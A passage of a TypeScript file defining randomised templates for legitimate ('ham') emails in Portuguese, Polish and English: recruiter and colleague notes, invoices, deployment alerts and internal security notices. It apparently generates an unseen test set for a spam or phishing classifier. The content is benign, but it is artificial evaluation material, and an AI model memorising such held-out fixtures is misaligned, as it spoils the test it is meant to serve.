            'O processo tem uma conversa comigo, uma entrevista de system design e um bate-papo com o time. Não há teste para levar para casa.',
            'A faixa salarial e os detalhes estão na descrição da vaga, que posso enviar se quiser.',
          ]),
          'Se fizer sentido, podemos conversar 20 minutos esta semana? Se não for o momento, sem problema, é só avisar e não volto a escrever.',
          `Abraço,\n${name}\nNuvem Talentos`,
        ],
        form: 'text',
      };
    },
  },
  {
    name: 'pt-colega-deploy',
    kind: 'ham',
    write: (s) => {
      const you = s.besides('joaquim.ferreira');
      const svc = s.service();
      const [subject, body] = s.pick([
        [
          `Deploy do ${svc} adiado`,
          `O deploy do ${svc} ficou para quinta porque a migração ainda está rodando em staging. Segue o log do último passo:`,
        ],
        [
          'Re: migração do Postgres',
          'A migração passou em staging, mas vi um lock wait no fim. Segue o trecho do log, acho que dá para rodar em produção fora do horário de pico:',
        ],
        [
          `Alerta de ontem no ${svc}`,
          'O alerta de ontem foi falso positivo: o health check estava batendo no pod antigo durante o rollout. Segue o log:',
        ],
      ] as const);
      return {
        to: mailbox(s.full(you), s.address(you)),
        from: mailbox('Joaquim Ferreira', 'joaquim.ferreira@corp.example'),
        auth: passes('corp.example'),
        lang: 'pt',
        subject,
        blocks: [
          s.pick([`Oi ${you.first},`, `Olá ${you.first},`, 'Bom dia,']),
          body,
          {
            code: `2026-11-${s.int(10, 28)}T03:12:44Z INFO ${svc}: applied 00${s.int(30, 60)}_add_flag_audit (${s.int(2, 40)}.${s.int(0, 9)}s)\n2026-11-${s.int(10, 28)}T03:12:45Z WARN ${svc}: lock wait ${s.int(200, 900)}ms on audit_events`,
          },
          s.pick(['Abraço,\nJoaquim', 'Valeu,\nJoaquim', 'Qualquer coisa me chama no Slack.\nJoaquim']),
        ],
      };
    },
  },
  {
    name: 'pl-faktura-wykonawca',
    kind: 'ham',
    write: (s) => {
      const nr = `FV ${s.int(10, 99)}/${s.pick(['10', '11', '12'])}/2026`;
      const [firm, domain] = s.pick([
        ['Kodwerk Sp. z o.o.', 'kodwerk.example.pl'],
        ['Bitlas Software S.A.', 'bitlas.example.pl'],
        ['Jan Wiśniewski Consulting', 'wisniewski-consulting.example.pl'],
      ] as const);
      const service = s.pick([
        'usługi programistyczne',
        'utrzymanie infrastruktury',
        'audyt bezpieczeństwa',
        'wsparcie on-call',
      ]);
      return {
        from: mailbox(firm, s.pick([`faktury@${domain}`, `biuro@${domain}`])),
        auth: passes(domain),
        lang: 'pl',
        to: mailbox('Accounts Payable', `ap@${DOMAIN}`),
        subject: s.pick([
          `Faktura ${nr} - ${service}`,
          `Faktura VAT ${nr}`,
          `${firm}: faktura za ${s.pick(['październik', 'listopad'])}`,
        ]),
        blocks: [
          s.pick(['Dzień dobry,', 'Szanowni Państwo,', 'Cześć,']),
          `w załączeniu przesyłamy fakturę ${nr} za ${service} zgodnie z umową ramową. Termin płatności: ${s.pick(['14', '30'])} dni, na rachunek wskazany w umowie (bez zmian).`,
          ...(s.chance(0.5)
            ? [`Raport godzin jest w arkuszu współdzielonym, łącznie ${s.int(60, 180)} h.`]
            : []),
          s.pick([`Pozdrawiamy\n${firm}`, `Z poważaniem\nDział księgowości\n${firm}`]),
        ],
        parts: [
          {
            type: 'application/pdf',
            name: `${nr.replace(/[ /]/g, '_')}.pdf`,
            content: onePagePdf([`Faktura ${nr}`, service, `Kwota: ${s.money(18000, 62000)} PLN`]),
          },
        ],
      };
    },
  },
  {
    name: 'pl-kolega-dyzur',
    kind: 'ham',
    write: (s) => {
      const you = s.besides('kacper.zielinski');
      const freemail = s.chance(0.4);
      const day = s.int(1, 27);
      const domain = freemail ? s.pick(['wp.pl', 'o2.pl', 'gmail.com']) : DOMAIN;
      return {
        to: mailbox(s.full(you), s.address(you)),
        from: mailbox('Kacper Zieliński', `kacper.zielinski${freemail ? s.int(80, 99) : ''}@${domain}`),
        auth: passes(domain),
        lang: 'pl',
        subject: s.pick([
          'Zamiana dyżuru w weekend',
          `Re: dyżur on-call ${day}-${day + 1}.12`,
          'Pytanie o runbook do Kafki',
          'Piątkowy deploy',
        ]),
        blocks: [
          s.pick([`Cześć ${you.first},`, `Hej ${you.first},`]),
          s.pick([
            'czy mógłbyś/mogłabyś wziąć mój dyżur w sobotę? W zamian wezmę Twoją niedzielę za dwa tygodnie. Jeśli tak, zamienię to w PagerDuty.',
            'w runbooku do Kafki brakuje kroku z restartem konsumentów po rebalansie. Dopisałem go w Confluence, zerkniesz w poniedziałek?',
            'przesuwam piątkowy deploy edge-proxy na poniedziałek rano - w piątek po 15:00 mamy freeze. Daj znać, jeśli to Ci coś blokuje.',
          ]),
          ...(freemail ? ['(piszę z prywatnej skrzynki, laptop służbowy został w biurze)'] : []),
          s.pick(['Dzięki!\nKacper', 'Pozdrawiam\nKacper', 'K.']),
        ],
        form: 'text',
      };
    },
  },
];

/** English legitimate mail that would make unseen-ham-17.ts too long: deployments, runs, the company's notices. */
export const MORE_HAM: Template[] = [
  {
    name: 'vercel-deployment',
    kind: 'ham',
    write: (s) => {
      const project = s.pick(['docs-halyard', 'halyard-www', 'console-preview', 'status-page']);
      const failed = s.chance(0.5);
      const branch = s.pick(['main', 'main', `feat/${s.pick(['pricing-page', 'go-sdk-docs', 'dark-mode'])}`]);
      return {
        from: mailbox('Vercel', 'notifications@vercel.com'),
        auth: passes('vercel.com'),
        subject: `${failed ? 'Failed' : 'Successful'} ${branch === 'main' ? 'production' : 'preview'} deployment on ${project}`,
        blocks: [
          `A ${branch === 'main' ? 'production' : 'preview'} deployment of ${project} ${failed ? 'failed' : 'is ready'}.`,
          {
            rows: [
              [
                'Commit',
                `${s.hex(7)} ${s.pick(['docs: add Go SDK page', 'fix broken anchor', 'bump next to 15.1', 'add status banner'])}`,
              ],
              ['Branch', branch],
              ['Author', s.handle(s.mate)],
            ],
          },
          ...(failed
            ? [
                {
                  code: s.pick([
                    'Error: Command "npm run build" exited with 1',
                    "Type error: Property 'flags' does not exist on type 'Props'.",
                    'Error: ENOSPC: no space left on device',
                  ]),
                },
              ]
            : []),
          {
            button: failed ? 'View build logs' : 'Visit preview',
            href: `https://vercel.com/halyard/${project}/${s.token(9)}`,
          },
          s.pick([
            'You are receiving this because you are a member of the halyard team.',
            'Manage notification preferences in your account settings.',
          ]),
        ],
      };
    },
  },
  {
    name: 'terraform-run-applied',
    kind: 'ham',
    write: (s) => ({
      from: mailbox('HCP Terraform', 'notifications@app.terraform.io'),
      auth: passes('app.terraform.io', 'hashicorp.com', 'terraform.io'),
      subject: `Run applied: ${s.pick(['prod-network', 'edge-eu', 'core-db'])} (run-${s.token(16)})`,
      blocks: [
        `Run triggered by ${s.handle(s.mate)} from ${ORG_SLUG}/infra-terraform was applied.`,
        {
          code: `Apply complete! Resources: ${s.int(0, 5)} added, ${s.int(0, 9)} changed, ${s.int(0, 2)} destroyed.`,
        },
        { link: 'View run', href: `https://app.terraform.io/app/${ORG_SLUG}/workspaces` },
      ],
    }),
  },
  {
    name: 'sso-announcement-own-domain',
    kind: 'ham',
    write: (s) => {
      const [subject, body] = s.pick([
        [
          'Passkeys for GitHub and AWS from next month',
          `From ${s.date()} we require passkeys or a hardware key for GitHub and AWS SSO. If you already use a YubiKey, nothing changes. Otherwise, register a passkey in Okta (Settings > Security methods) before then.`,
        ],
        [
          'Rotating the shared staging credentials on Friday',
          'We are rotating the shared staging database and queue credentials on Friday at 10:00 UTC. Services read them from Vault, so nothing should break; if a local script of yours has them hard-coded, move it to `vault read` before then.',
        ],
        [
          'Reminder: report suspicious mail with the button',
          'We have seen a wave of fake recruiter mails with "take-home tasks" aimed at engineers. Do not run code from strangers on your work laptop; use the Report button in Gmail and we will look at it.',
        ],
        [
          'GitHub org: SSO session length changes',
          'GitHub SAML sessions will last 24 hours instead of 7 days from Monday. Expect to re-authenticate through Okta once a day; tokens and SSH keys keep working once they are authorised for SSO.',
        ],
      ] as const);
      const author = s.pick([
        ['Lena Hoffmann', 'lena.hoffmann', 'Security Engineering'],
        ['Olu Adeyemi', 'olu.adeyemi', 'Infrastructure'],
        ['IT Service Desk', 'it', 'IT'],
      ] as const);
      return {
        from: mailbox(author[0], `${author[1]}@${DOMAIN}`),
        auth: passes(DOMAIN),
        to: s.pick([`engineering@${DOMAIN}`, `all@${DOMAIN}`]),
        headers: [`List-Id: <${s.pick(['engineering', 'all'])}.${DOMAIN}>`],
        subject,
        blocks: [
          s.pick(['Hi everyone,', 'Hi all,', 'Hello team,']),
          body,
          s.pick([
            'We will never ask you to do any of this through a link in an email - use your bookmarks.',
            'Questions in #security.',
            'Questions in #it-help.',
          ]),
          `${author[0].split(' ')[0]}\n${author[2]}`,
        ],
      };
    },
  },
];
